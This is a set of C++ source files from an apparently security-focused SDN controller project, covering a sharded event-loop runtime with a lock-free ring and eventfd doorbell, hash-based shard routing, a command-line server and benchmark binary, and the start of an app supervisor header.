  std::size_t index = 0;
  MpscRing<Task> ring;
  Doorbell doorbell;
  std::thread thread;
  /// Loop-owned (never touched off-loop while running): the shard-local
  /// FlowTable views of the switches homed here.
  std::map<of::DatapathId, of::FlowTable> flowView;
  obs::Counter tasks;
  obs::Counter wakeups;

  Shard(std::size_t idx, std::size_t ringCapacity)
      : index(idx),
        ring(ringCapacity),
        tasks(obs::Registry::global().counter(
            obs::shardMetricName("tasks", idx))),
        wakeups(obs::Registry::global().counter(
            obs::shardMetricName("wakeups", idx))) {}
};

ShardRuntime::ShardRuntime(ShardOptions options)
    : options_(options), router_(options.shards) {
  options_.shards = router_.shards();
  if (options_.ringCapacity < 2) options_.ringCapacity = 2;
}

ShardRuntime::~ShardRuntime() { stop(); }

void ShardRuntime::start() {
  if (running_.load(std::memory_order_acquire)) return;
  stopping_.store(false, std::memory_order_release);
  shards_.clear();
  shards_.reserve(options_.shards);
  for (std::size_t i = 0; i < options_.shards; ++i) {
    shards_.push_back(std::make_unique<Shard>(i, options_.ringCapacity));
  }
  if (iso::VirtualExecutor* executor = iso::virtualExecutor()) {
    // Model-checking mode: no loop threads. Each shard's queue lives in the
    // virtual scheduler and every dispatched task is one explorable step.
    virtualized_ = true;
    for (const auto& shard : shards_) {
      executor->registerQueue(shard.get(),
                              "shard" + std::to_string(shard->index));
    }
    running_.store(true, std::memory_order_release);
    return;
  }
  running_.store(true, std::memory_order_release);
  for (const auto& shard : shards_) {
    Shard* raw = shard.get();
    raw->thread = std::thread([this, raw] { runLoop(*raw); });
  }
}

void ShardRuntime::stop() {
  if (!running_.exchange(false, std::memory_order_acq_rel)) return;
  stopping_.store(true, std::memory_order_release);
  if (virtualized_) {
    if (iso::VirtualExecutor* executor = iso::virtualExecutor()) {
      for (const auto& shard : shards_) {
        executor->drainQueue(shard.get());
        executor->unregisterQueue(shard.get());
      }
    }
    virtualized_ = false;
    shards_.clear();
    return;
  }
  // No push may land after the final drain: wait out in-flight producers
  // (they either complete their push — which the drain below collects — or
  // observe stopping_ and run inline).
  while (pushers_.load(std::memory_order_acquire) != 0) {
    std::this_thread::yield();
  }
  for (const auto& shard : shards_) shard->doorbell.ring();
  for (const auto& shard : shards_) {
    if (shard->thread.joinable()) shard->thread.join();
  }
  // Safety net for tasks pushed in the join window: run them here so a
  // blocked call() can never strand.
  for (const auto& shard : shards_) {
    Task task;
    while (shard->ring.tryPop(task)) {
      runTask(*shard, task);
      task = nullptr;
    }
  }
  shards_.clear();
}

void ShardRuntime::runLoop(Shard& shard) {
  t_loopRuntime = this;
  t_loopShard = shard.index;
  if (options_.pinThreads) pinToCore(shard.index);
  for (;;) {
    Task task;
    bool ran = false;
    while (shard.ring.tryPop(task)) {
      ran = true;
      runTask(shard, task);
      task = nullptr;  // Release promptly: guards must not outlive the step.
    }
    if (stopping_.load(std::memory_order_acquire)) {
      while (shard.ring.tryPop(task)) {
        runTask(shard, task);
        task = nullptr;
      }
      break;
    }
    if (!ran && shard.doorbell.wait(options_.idleWait)) {
      shard.wakeups.increment();
    }
  }
  t_loopRuntime = nullptr;
}

void ShardRuntime::runTask(Shard& shard, Task& task) {
  try {
    task();
  } catch (...) {
    // Posted tasks are contained like any dispatch fault; call() payloads
    // carry their exception back to the caller themselves.
    metrics().taskFaults.increment();
  }
  tasks_.fetch_add(1, std::memory_order_relaxed);
  shard.tasks.increment();
}

bool ShardRuntime::enqueue(std::size_t shard, Task task) {
  pushers_.fetch_add(1, std::memory_order_acq_rel);
  Shard& target = *shards_[shard];
  for (;;) {
    if (stopping_.load(std::memory_order_acquire)) {
      pushers_.fetch_sub(1, std::memory_order_release);
      return false;
    }
    if (target.ring.tryPush(task)) break;
    std::this_thread::yield();  // Ring momentarily full; consumer is live.
  }
  target.doorbell.ring();
  pushers_.fetch_sub(1, std::memory_order_release);
  return true;
}

void ShardRuntime::runOnShard(std::size_t shard,
                              const std::function<void()>& fn) {
  call(shard, fn);
}

void ShardRuntime::call(std::size_t shard, const Task& task) {
  calls_.fetch_add(1, std::memory_order_relaxed);
  metrics().calls.increment();
  if (!running_.load(std::memory_order_acquire)) {
    inlineRuns_.fetch_add(1, std::memory_order_relaxed);
    metrics().inlineRuns.increment();
    task();
    return;
  }
  if (virtualized_) {
    struct VirtualState {
      bool done = false;
      std::exception_ptr error;
    };
    auto state = std::make_shared<VirtualState>();
    iso::VirtualExecutor* executor = iso::virtualExecutor();
    bool queued =
        executor && executor->enqueue(shards_[shard].get(), [task, state] {
          try {
            task();
          } catch (...) {
            state->error = std::current_exception();
          }
          state->done = true;
        });
    if (!queued) {
      task();
      return;
    }
    executor->await([state] { return state->done; }, "shard.call");
    if (!state->done) return;  // Teardown: the drain/discard settles it.
    if (state->error) std::rethrow_exception(state->error);
    return;
  }
  if (t_loopRuntime == this) {
    // Already on one of our loops. Same shard: inline keeps ordering. A
    // different shard would mean loop-blocks-on-loop — run inline instead;
    // cycles are impossible when no loop ever waits on a sibling.
    inlineRuns_.fetch_add(1, std::memory_order_relaxed);
    metrics().inlineRuns.increment();
    task();
    return;
  }
  struct CallState {
    std::mutex mutex;
    std::condition_variable cv;
    bool done = false;
    std::exception_ptr error;
  };
  auto state = std::make_shared<CallState>();
  // The guard's destructor is the completion signal: it fires whether the
  // payload ran or was destroyed unrun, so the wait below can never strand.
  auto guard = std::shared_ptr<void>(nullptr, [state](void*) {
    std::lock_guard lock(state->mutex);
    state->done = true;
    state->cv.notify_all();
  });
  Task payload = [task, state, guard = std::move(guard)]() mutable {
    try {
      task();
    } catch (...) {
      state->error = std::current_exception();
    }
    guard.reset();
  };
  if (!enqueue(shard, std::move(payload))) {
    inlineRuns_.fetch_add(1, std::memory_order_relaxed);
    metrics().inlineRuns.increment();
    task();
    return;
  }
  std::unique_lock lock(state->mutex);
  state->cv.wait(lock, [&] { return state->done; });
  if (state->error) std::rethrow_exception(state->error);
}

void ShardRuntime::post(std::size_t shard, Task task) {
  posts_.fetch_add(1, std::memory_order_relaxed);
  metrics().posts.increment();
  if (!running_.load(std::memory_order_acquire)) {
    inlineRuns_.fetch_add(1, std::memory_order_relaxed);
    metrics().inlineRuns.increment();
    task();
    return;
  }
  if (virtualized_) {
    iso::VirtualExecutor* executor = iso::virtualExecutor();
    if (!executor || !executor->enqueue(shards_[shard].get(),
                                        std::move(task))) {
      return;  // Sealed queue (teardown): drop, like a discarded real queue.
    }
    return;
  }
  if (t_loopRuntime == this && t_loopShard == shard) {
    task();  // Our own loop: run now instead of self-enqueueing.
    return;
  }
  if (!enqueue(shard, std::move(task))) {
    // Stopping: the mirror (the only post consumer) is being torn down.
  }
}

bool ShardRuntime::fence(const std::function<void(std::size_t)>& perShard) {
  if (!running_.load(std::memory_order_acquire)) {
    if (perShard) {
      for (std::size_t i = 0; i < shardCount(); ++i) perShard(i);
    }
    return true;
  }
  if (!virtualized_ && t_loopRuntime == this) return false;
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    call(i, [&perShard, i] {
      if (perShard) perShard(i);
    });
  }
  fences_.fetch_add(1, std::memory_order_relaxed);
  metrics().fences.increment();
  return true;
}

std::optional<std::size_t> ShardRuntime::currentShard() const {
  if (t_loopRuntime == this) return t_loopShard;
  return std::nullopt;
}

void ShardRuntime::attach(ctrl::Controller& controller) {
  controller.setShardDispatch(this);
}

void ShardRuntime::detach(ctrl::Controller& controller) {
  controller.setShardDispatch(nullptr);
  // Drain in-flight routed work so nothing still references the controller
  // once the caller proceeds to tear it down.
  fence({});
}

void ShardRuntime::attachEngine(engine::PermissionEngine& engine) {
  engine.setPublishFence([this] {
    // Epoch publish ordering (DESIGN.md §16): the table swap and version
    // bump happened-before this fence; each loop then resets its
    // thread-local memo, so every shard's next check resolves against the
    // new epoch — the cross-shard mailbox for policy publishes.
    fence([](std::size_t) { engine::PermissionEngine::resetThreadMemo(); });
  });
}

void ShardRuntime::detachEngine(engine::PermissionEngine& engine) {
  engine.setPublishFence({});
}

void ShardRuntime::noteSwitchAttached(of::DatapathId dpid) {
  if (!running_.load(std::memory_order_acquire)) return;
  std::size_t home = router_.shardOf(dpid);
  post(home, [this, home, dpid] {
    shards_[home]->flowView.try_emplace(dpid);
  });
}

void ShardRuntime::noteFlowMods(of::DatapathId dpid,
                                const std::vector<of::FlowMod>& mods) {
  if (!running_.load(std::memory_order_acquire)) return;
  std::size_t home = router_.shardOf(dpid);
  post(home, [this, home, dpid, mods] {
    shards_[home]->flowView[dpid].applyBatch(mods);
  });
}

void ShardRuntime::dropSwitchState(of::DatapathId dpid) {
  if (!running_.load(std::memory_order_acquire)) return;
  std::size_t home = router_.shardOf(dpid);
  post(home, [this, home, dpid] { shards_[home]->flowView.erase(dpid); });
}

std::size_t ShardRuntime::mirroredSwitchCount() {
  if (shards_.empty()) return 0;
  std::size_t total = 0;
  // Sequential fence: the per-shard tasks run one at a time with the caller
  // joining each, so the plain accumulator is safe.
  fence([this, &total](std::size_t i) { total += shards_[i]->flowView.size(); });
  return total;
}

std::size_t ShardRuntime::mirroredFlowCount() {
  if (shards_.empty()) return 0;
  std::size_t total = 0;
  fence([this, &total](std::size_t i) {
    for (const auto& [dpid, table] : shards_[i]->flowView) {
      total += table.size();
    }
  });
  return total;
}

std::vector<of::FlowEntry> ShardRuntime::mirroredFlows(of::DatapathId dpid) {
  std::vector<of::FlowEntry> out;
  if (shards_.empty()) return out;
  call(router_.shardOf(dpid), [this, dpid, &out] {
    auto& view = shards_[router_.shardOf(dpid)]->flowView;
    if (auto it = view.find(dpid); it != view.end()) {
      out = it->second.entries();
    }
  });
  return out;
}

ShardStats ShardRuntime::stats() const {
  ShardStats out;
  out.tasks = tasks_.load(std::memory_order_relaxed);
  out.calls = calls_.load(std::memory_order_relaxed);
  out.posts = posts_.load(std::memory_order_relaxed);
  out.inlineRuns = inlineRuns_.load(std::memory_order_relaxed);
  out.fences = fences_.load(std::memory_order_relaxed);
  return out;
}

}  // namespace sdnshield::shard
