// Cross-core plumbing for the shard runtime (DESIGN.md §16): a bounded
// lock-free MPSC ring and an eventfd doorbell for cheap cross-core
// notification — the Xen event-channel idiom (ROADMAP item 1): producers on
// any core publish into the consumer core's ring and kick its doorbell; the
// consumer drains in a tight loop and only touches the kernel when idle.
#pragma once

#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <thread>
#include <utility>
#include <vector>

#if defined(__linux__)
#include <poll.h>
#include <sys/eventfd.h>
#include <unistd.h>
#endif

namespace sdnshield::shard {

/// Edge-style wakeup doorbell. On Linux this is a real eventfd (one word of
/// kernel state, no pipe buffer to fill); elsewhere it degrades to a pure
/// timed poll, which is correct (the consumer re-scans its ring on every
/// wakeup) just less prompt. ring() is async-signal-cheap and callable from
/// any thread; wait() is single-consumer.
class Doorbell {
 public:
  Doorbell() {
#if defined(__linux__)
    fd_ = ::eventfd(0, EFD_NONBLOCK | EFD_CLOEXEC);
#endif
  }
  ~Doorbell() {
#if defined(__linux__)
    if (fd_ >= 0) ::close(fd_);
#endif
  }
  Doorbell(const Doorbell&) = delete;
  Doorbell& operator=(const Doorbell&) = delete;

  /// Kicks the consumer. Coalescing is inherent: the eventfd counter
  /// saturates instead of queueing, so N rings cost one wakeup.
  void ring() {
#if defined(__linux__)
    if (fd_ >= 0) {
      std::uint64_t one = 1;
      // A full counter (EAGAIN) already guarantees a pending wakeup.
      [[maybe_unused]] ssize_t n = ::write(fd_, &one, sizeof(one));
      return;
    }
#endif
    pending_.store(true, std::memory_order_release);
  }

  /// Blocks until rung or @p timeout elapses; drains the pending state.
  /// Returns true when a ring was observed.
  bool wait(std::chrono::milliseconds timeout) {
#if defined(__linux__)
    if (fd_ >= 0) {
      pollfd pfd{fd_, POLLIN, 0};
      int ready = ::poll(&pfd, 1, static_cast<int>(timeout.count()));
      if (ready <= 0) return false;
      std::uint64_t count = 0;
      [[maybe_unused]] ssize_t n = ::read(fd_, &count, sizeof(count));
      return true;
    }
#endif
    auto deadline = std::chrono::steady_clock::now() + timeout;
    while (std::chrono::steady_clock::now() < deadline) {
      if (pending_.exchange(false, std::memory_order_acq_rel)) return true;
      std::this_thread::yield();
    }
    return pending_.exchange(false, std::memory_order_acq_rel);
  }

  /// The underlying eventfd (-1 when the fallback is active) — pollable by
  /// an external reactor if a shard loop is ever fused with an epoll loop.
  int fd() const { return fd_; }

 private:
  int fd_ = -1;
  std::atomic<bool> pending_{false};  ///< Fallback path only.
};

/// Bounded lock-free multi-producer ring (Vyukov bounded queue). Producers
/// on any thread tryPush concurrently; the owning shard loop is the single
/// consumer in practice, though the algorithm is safe for many. Capacity is
/// rounded up to a power of two; a full ring fails the push (callers spin or
/// overflow elsewhere — the ring itself never blocks).
template <typename T>
class MpscRing {
 public:
  explicit MpscRing(std::size_t capacity) {
    std::size_t cap = 2;
    while (cap < capacity) cap <<= 1;
    cells_ = std::vector<Cell>(cap);
    mask_ = cap - 1;
    for (std::size_t i = 0; i < cap; ++i) {
      cells_[i].sequence.store(i, std::memory_order_relaxed);
    }
  }
  MpscRing(const MpscRing&) = delete;
  MpscRing& operator=(const MpscRing&) = delete;

  /// Moves from @p value only on success, so callers can retry the same
  /// object when the ring is momentarily full.
  bool tryPush(T& value) {
    Cell* cell;
    std::size_t pos = head_.load(std::memory_order_relaxed);
    for (;;) {
      cell = &cells_[pos & mask_];
      std::size_t seq = cell->sequence.load(std::memory_order_acquire);
      std::intptr_t diff = static_cast<std::intptr_t>(seq) -
                           static_cast<std::intptr_t>(pos);
      if (diff == 0) {
        if (head_.compare_exchange_weak(pos, pos + 1,
                                        std::memory_order_relaxed)) {
          break;
        }
      } else if (diff < 0) {
        return false;  // Full.
      } else {
        pos = head_.load(std::memory_order_relaxed);
      }
    }
    cell->value = std::move(value);
    cell->sequence.store(pos + 1, std::memory_order_release);
    return true;
  }

  bool tryPop(T& out) {
    Cell* cell = &cells_[tail_ & mask_];
    std::size_t seq = cell->sequence.load(std::memory_order_acquire);
    std::intptr_t diff = static_cast<std::intptr_t>(seq) -
                         static_cast<std::intptr_t>(tail_ + 1);
    if (diff < 0) return false;  // Empty (or the producer is mid-publish).
    out = std::move(cell->value);
    cell->value = T{};
    cell->sequence.store(tail_ + mask_ + 1, std::memory_order_release);
    ++tail_;
    return true;
  }

  std::size_t capacity() const { return mask_ + 1; }

  /// Racy occupancy estimate (monitoring only).
  std::size_t sizeApprox() const {
    std::size_t head = head_.load(std::memory_order_relaxed);
    return head > tail_ ? head - tail_ : 0;
  }

 private:
  struct Cell {
    std::atomic<std::size_t> sequence{0};
    T value{};
  };

  std::vector<Cell> cells_;
  std::size_t mask_ = 0;
  alignas(64) std::atomic<std::size_t> head_{0};  ///< Producers.
  alignas(64) std::size_t tail_ = 0;              ///< Single consumer.
};

}  // namespace sdnshield::shard
