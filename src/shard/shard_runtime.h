// The sharded controller substrate (DESIGN.md §16, ROADMAP item 1): N
// per-core event loops, each owning a lock-free MPSC ring + doorbell, a
// shard-local FlowTable view and (via thread-locality) its own
// permission-memo domain. A deterministic Router maps dpid -> shard and
// app -> shard; cross-shard traffic exists only for topology-wide
// operations — policy epoch publishes (the engine publish fence), app
// quarantine and statsReport merges — which run as a fence: one task per
// shard, caller waits for all.
//
// shards=1 reproduces the pre-shard single pipeline bit-for-bit: every
// dpid routes to shard 0, packet-ins dispatch in arrival order on one
// loop, and the differential tests pin the equivalence.
//
// Under the deterministic interleaving explorer (src/mck) the loops are
// virtualized through the iso::VirtualExecutor seam exactly like
// ThreadContainer / KsdPool: no threads are spawned, each shard registers
// a task queue, and every dispatched task becomes one explorable step.
#pragma once

#include <atomic>
#include <chrono>
#include <cstddef>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <thread>
#include <vector>

#include "controller/controller.h"
#include "obs/metrics.h"
#include "of/flow_table.h"
#include "shard/ring.h"
#include "shard/router.h"

namespace sdnshield::engine {
class PermissionEngine;
}  // namespace sdnshield::engine

namespace sdnshield::shard {

struct ShardOptions {
  /// Event-loop count. 1 (the default) is the compatibility mode: a single
  /// loop owning everything.
  std::size_t shards = 1;
  /// Per-shard ring capacity (rounded up to a power of two). A full ring
  /// back-pressures producers with a spin-yield, never a lock.
  std::size_t ringCapacity = 4096;
  /// Best-effort CPU pinning (pthread_setaffinity_np): shard i is pinned to
  /// core i % hardware_concurrency. Failure (no permission, exotic libc) is
  /// recorded in a counter and otherwise ignored.
  bool pinThreads = false;
  /// Idle doorbell wait; bounds shutdown latency, not correctness.
  std::chrono::milliseconds idleWait{50};
};

/// Aggregate runtime counters (merged across shards; see also the
/// per-shard "shard.s<N>.tasks" counters in the obs registry).
struct ShardStats {
  std::uint64_t tasks = 0;      ///< Tasks executed on shard loops.
  std::uint64_t calls = 0;      ///< Synchronous runOnShard/call round-trips.
  std::uint64_t posts = 0;      ///< Fire-and-forget posts.
  std::uint64_t inlineRuns = 0; ///< Tasks run on the caller (not running /
                                ///< same shard / cross-shard-from-loop).
  std::uint64_t fences = 0;     ///< Completed fence barriers.
};

class ShardRuntime final : public ctrl::ShardDispatch {
 public:
  using Task = std::function<void()>;

  explicit ShardRuntime(ShardOptions options = {});
  ~ShardRuntime() override;
  ShardRuntime(const ShardRuntime&) = delete;
  ShardRuntime& operator=(const ShardRuntime&) = delete;

  /// Spawns the shard loops (or registers virtual queues under mck).
  /// Idempotent.
  void start();
  /// Drains every ring, then joins/unregisters the loops. All producers
  /// must be quiesced first (detach the controller before stopping).
  void stop();
  bool running() const { return running_.load(std::memory_order_acquire); }

  const Router& router() const { return router_; }

  // --- ctrl::ShardDispatch --------------------------------------------------
  std::size_t shardCount() const override { return router_.shards(); }
  std::size_t shardOf(of::DatapathId dpid) const override {
    return router_.shardOf(dpid);
  }
  void runOnShard(std::size_t shard, const std::function<void()>& fn) override;
  bool fenceShards() override { return fence({}); }
  void noteSwitchAttached(of::DatapathId dpid) override;
  void noteFlowMods(of::DatapathId dpid,
                    const std::vector<of::FlowMod>& mods) override;
  void dropSwitchState(of::DatapathId dpid) override;

  // --- task submission ------------------------------------------------------
  /// Runs @p task to completion on @p shard and waits. Inline when the
  /// runtime is not running or the caller already is a shard loop (running
  /// it on the caller avoids loop-to-loop blocking cycles). Task exceptions
  /// propagate to the caller.
  void call(std::size_t shard, const Task& task);
  /// Fire-and-forget enqueue onto @p shard (inline when not running).
  void post(std::size_t shard, Task task);
  /// Barrier: runs @p perShard (may be empty) on every shard loop in index
  /// order, waiting for each — the cross-shard mailbox. Refused (returns
  /// false, runs nothing) from a shard loop, where blocking on siblings
  /// could cycle. Used for epoch publishes, quarantine and stats merges.
  bool fence(const std::function<void(std::size_t)>& perShard);

  /// Shard loop the calling thread belongs to, if any.
  std::optional<std::size_t> currentShard() const;

  // --- wiring convenience ---------------------------------------------------
  /// controller.setShardDispatch(this). Call after start().
  void attach(ctrl::Controller& controller);
  /// Clears the dispatch and fences so no in-flight task still references
  /// the controller when the caller proceeds to tear things down.
  void detach(ctrl::Controller& controller);
  /// Installs the engine's publish fence: every installAll epoch swap runs
  /// a barrier over all shard loops that resets each loop's thread-local
  /// permission memo — the per-shard memo/epoch domain handover. The engine
  /// must outlive this runtime or be detached first.
  void attachEngine(engine::PermissionEngine& engine);
  void detachEngine(engine::PermissionEngine& engine);

  // --- shard-local FlowTable views ------------------------------------------
  /// Mirror introspection; each fences or hops to the owning loop, so these
  /// are consistent (and not for hot paths).
  std::size_t mirroredSwitchCount();
  std::size_t mirroredFlowCount();
  std::vector<of::FlowEntry> mirroredFlows(of::DatapathId dpid);

  ShardStats stats() const;

 private:
  struct Shard;

  /// Enqueues onto the shard's ring (spin-yield on full) and rings the
  /// doorbell. False when the runtime is stopping — caller runs inline.
  bool enqueue(std::size_t shard, Task task);
  void runLoop(Shard& shard);
  void runTask(Shard& shard, Task& task);

  ShardOptions options_;
  Router router_;
  std::vector<std::unique_ptr<Shard>> shards_;
  std::atomic<bool> running_{false};
  std::atomic<bool> stopping_{false};
  /// Producers in enqueue(); stop() waits for this to hit zero after
  /// setting stopping_, so no push can land after the final drain.
  std::atomic<std::int64_t> pushers_{0};
  bool virtualized_ = false;

  std::atomic<std::uint64_t> tasks_{0};
  std::atomic<std::uint64_t> calls_{0};
  std::atomic<std::uint64_t> posts_{0};
  std::atomic<std::uint64_t> inlineRuns_{0};
  std::atomic<std::uint64_t> fences_{0};
};

}  // namespace sdnshield::shard
