// Deterministic shard routing (DESIGN.md §16): every dpid and every app id
// hashes to exactly one shard, with fixed constants so the mapping is stable
// across processes, runs and shard-runtime restarts — the campaign's
// determinism contract (same seed => byte-identical scorecard) extends to
// any shard count because routing never depends on load, time or pointers.
#pragma once

#include <cstddef>
#include <cstdint>

#include "of/types.h"

namespace sdnshield::shard {

/// splitmix64 finalizer: full-avalanche mixing so dense dpid ranges
/// (1..N from the topology generators) spread evenly across shards.
inline std::uint64_t mix64(std::uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

class Router {
 public:
  explicit Router(std::size_t shards) : shards_(shards == 0 ? 1 : shards) {}

  std::size_t shards() const { return shards_; }

  /// Home shard of a switch: all packet-ins punted by dpid dispatch on this
  /// shard's loop, and its FlowTable mirror lives there.
  std::size_t shardOf(of::DatapathId dpid) const {
    return static_cast<std::size_t>(mix64(dpid)) % shards_;
  }

  /// Home shard of an app (deputy work placement). Salted so an app whose
  /// id collides numerically with a dpid does not always co-locate with it.
  std::size_t shardOfApp(of::AppId app) const {
    return static_cast<std::size_t>(mix64(0xa5a5a5a5a5a5a5a5ULL ^ app)) %
           shards_;
  }

 private:
  std::size_t shards_;
};

}  // namespace sdnshield::shard
