// The `sdnshield` binary: the library's wire-facing entry points.
//
//   sdnshield serve  [--port P] [--port-file F] [--max-seconds S]
//                    [--shards N]
//       Controller + ShieldRuntime + L2 learning app behind the epoll
//       OpenFlow 1.0 frontend (net::OfServer). Binds 127.0.0.1 (port 0 =
//       ephemeral; the bound port is printed and optionally written to
//       --port-file so scripts can coordinate). Runs until SIGINT/SIGTERM
//       or --max-seconds. --shards N > 1 runs the sharded controller
//       substrate (shard::ShardRuntime) with one server reactor per shard;
//       N = 1 (the default) is the single-pipeline compatibility mode.
//
//   sdnshield cbench --port P [--connections N] [--rounds R] [--json F]
//       CBench-over-TCP loopback client (net::runCbenchClient): N emulated
//       switches handshake, announce hosts, and run R closed-loop
//       latency rounds each. Prints a summary; --json appends a wire_row
//       (scripts/bench_schema.json) to F.
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "apps/l2_learning.h"
#include "core/lang/perm_parser.h"
#include "isolation/api_proxy.h"
#include "net/cbench_client.h"
#include "net/of_server.h"
#include "shard/shard_runtime.h"

namespace {

volatile std::sig_atomic_t g_stop = 0;
void onSignal(int) { g_stop = 1; }

int usage() {
  std::fprintf(stderr,
               "usage:\n"
               "  sdnshield serve  [--port P] [--port-file F] "
               "[--max-seconds S] [--shards N]\n"
               "  sdnshield cbench --port P [--connections N] [--rounds R] "
               "[--timeout-ms T] [--json F]\n");
  return 2;
}

long argValue(int argc, char** argv, const char* name, long fallback) {
  for (int i = 0; i < argc - 1; ++i) {
    if (std::strcmp(argv[i], name) == 0) return std::atol(argv[i + 1]);
  }
  return fallback;
}

const char* argString(int argc, char** argv, const char* name) {
  for (int i = 0; i < argc - 1; ++i) {
    if (std::strcmp(argv[i], name) == 0) return argv[i + 1];
  }
  return nullptr;
}

int runServe(int argc, char** argv) {
  using namespace sdnshield;
  long shardsArg = argValue(argc, argv, "--shards", 1);
  std::size_t shards = shardsArg < 1 ? 1 : static_cast<std::size_t>(shardsArg);

  ctrl::Controller controller;
  shard::ShardOptions shardOptions;
  shardOptions.shards = shards;
  shard::ShardRuntime runtime(shardOptions);
  runtime.start();
  runtime.attach(controller);
  iso::ShieldRuntime shield(controller);
  runtime.attachEngine(shield.engine());
  auto app = std::make_shared<apps::L2LearningSwitch>();
  shield.loadApp(app, lang::parsePermissions(app->requestedManifest()));

  net::OfServerConfig config;
  config.port = static_cast<std::uint16_t>(argValue(argc, argv, "--port", 0));
  config.ioThreads = shards;
  net::OfServer server(controller, config);
  std::string error;
  if (!server.start(&error)) {
    std::fprintf(stderr, "sdnshield serve: %s\n", error.c_str());
    return 1;
  }
  std::printf("sdnshield serve: listening on 127.0.0.1:%u (%zu shard%s)\n",
              server.port(), shards, shards == 1 ? "" : "s");
  std::fflush(stdout);
  if (const char* portFile = argString(argc, argv, "--port-file")) {
    if (std::FILE* f = std::fopen(portFile, "w")) {
      std::fprintf(f, "%u\n", server.port());
      std::fclose(f);
    }
  }
  long maxSeconds = argValue(argc, argv, "--max-seconds", 0);
  std::signal(SIGINT, onSignal);
  std::signal(SIGTERM, onSignal);
  auto start = std::chrono::steady_clock::now();
  while (!g_stop) {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    if (maxSeconds > 0 && std::chrono::steady_clock::now() - start >
                              std::chrono::seconds(maxSeconds)) {
      break;
    }
  }
  std::printf("sdnshield serve: %zu switches attached, shutting down\n",
              server.attachedCount());
  server.stop();
  shield.shutdown();
  runtime.detachEngine(shield.engine());
  runtime.detach(controller);
  runtime.stop();
  return 0;
}

int runCbench(int argc, char** argv) {
  using namespace sdnshield;
  net::CbenchClientConfig config;
  config.port = static_cast<std::uint16_t>(argValue(argc, argv, "--port", 0));
  if (config.port == 0) return usage();
  config.connections =
      static_cast<std::size_t>(argValue(argc, argv, "--connections", 16));
  config.rounds = static_cast<std::size_t>(argValue(argc, argv, "--rounds", 10));
  config.roundTimeout = std::chrono::milliseconds(
      argValue(argc, argv, "--timeout-ms", 1000));

  auto start = std::chrono::steady_clock::now();
  net::CbenchClientResult result = net::runCbenchClient(config);
  double durationSec =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();

  std::printf(
      "cbench: %zu/%zu handshaked, %zu rounds, %zu timeouts\n"
      "latency us: median=%.1f p90=%.1f mean=%.1f\n"
      "flow-mods=%llu packet-outs=%llu (%.0f responses/sec)\n",
      result.handshaked, config.connections, result.roundsCompleted,
      result.timeouts, result.medianUs(), result.p90Us(), result.meanUs(),
      static_cast<unsigned long long>(result.flowModsReceived),
      static_cast<unsigned long long>(result.packetOutsReceived),
      durationSec > 0 ? static_cast<double>(result.roundsCompleted) /
                            durationSec
                      : 0.0);
  if (!result.ok) {
    std::fprintf(stderr, "cbench: %s\n", result.error.c_str());
  }

  if (const char* jsonPath = argString(argc, argv, "--json")) {
    if (std::FILE* f = std::fopen(jsonPath, "a")) {
      std::fprintf(
          f,
          "{\"bench\": \"wire\", \"mode\": \"cbench\", "
          "\"connections\": %zu, \"rounds\": %zu, "
          "\"handshaked\": %zu, \"timeouts\": %zu, "
          "\"latency_median_us\": %.3f, \"latency_p90_us\": %.3f, "
          "\"latency_mean_us\": %.3f, \"responses_per_sec\": %.1f, "
          "\"flow_mods\": %llu}\n",
          config.connections, config.rounds, result.handshaked,
          result.timeouts, result.medianUs(), result.p90Us(),
          result.meanUs(),
          durationSec > 0
              ? static_cast<double>(result.roundsCompleted) / durationSec
              : 0.0,
          static_cast<unsigned long long>(result.flowModsReceived));
      std::fclose(f);
    }
  }
  return result.ok ? 0 : 1;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return usage();
  if (std::strcmp(argv[1], "serve") == 0) return runServe(argc - 2, argv + 2);
  if (std::strcmp(argv[1], "cbench") == 0) return runCbench(argc - 2, argv + 2);
  return usage();
}
