// App supervision (runtime availability enforcement). The paper's isolation
// argument (§VI) is that a misbehaving app cannot compromise the controller;
// the supervisor closes the availability half of that claim: per-app health
// (Healthy → Suspected → Quarantined) driven by contained task faults, a
// heartbeat watchdog that detects task-deadline overruns (hung handlers),
// and event-queue overflow accounting from the non-blocking dispatch path.
// Quarantine is delegated to a hook (the ShieldRuntime) which removes the
// app's subscriptions, uninstalls its permissions and seals its container —
// sibling apps keep running.
#pragma once

#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "of/flow_mod.h"

namespace sdnshield::iso {

class ThreadContainer;

enum class AppHealth { kHealthy, kSuspected, kQuarantined };

std::string toString(AppHealth health);

struct SupervisorOptions {
  /// Contained task faults before the app is marked Suspected.
  std::uint32_t faultSuspectThreshold = 3;
  /// Contained task faults before the app is quarantined.
  std::uint32_t faultQuarantineThreshold = 8;
  /// Event-queue drops (dispatcher backpressure) before quarantine.
  std::uint32_t dropQuarantineThreshold = 256;
  /// A task running longer than this marks the app Suspected.
  std::chrono::milliseconds taskDeadline{2000};
  /// A task running longer than this is treated as hung: quarantine.
  std::chrono::milliseconds taskHangDeadline{5000};
  /// Watchdog scan period.
  std::chrono::milliseconds heartbeatInterval{100};
};

class Supervisor {
 public:
  /// Invoked (at most once per app, off the supervisor lock) when an app
  /// transitions to Quarantined. May be called from the watchdog thread,
  /// the dispatch thread, or the faulting app's own container thread.
  using QuarantineHook =
      std::function<void(of::AppId app, const std::string& reason)>;

  explicit Supervisor(SupervisorOptions options = {});
  ~Supervisor();

  Supervisor(const Supervisor&) = delete;
  Supervisor& operator=(const Supervisor&) = delete;

  void setQuarantineHook(QuarantineHook hook);

  /// Starts / stops the heartbeat (watchdog) thread.
  void start();
  void stop();

  void watch(of::AppId app, std::shared_ptr<ThreadContainer> container);
  void forget(of::AppId app);

  /// Reports a contained task fault (called from the app's container).
  void recordFault(of::AppId app, const std::string& what);
  /// Reports an event dropped by dispatcher backpressure (queue full).
  void recordEventDrop(of::AppId app);

  AppHealth health(of::AppId app) const;
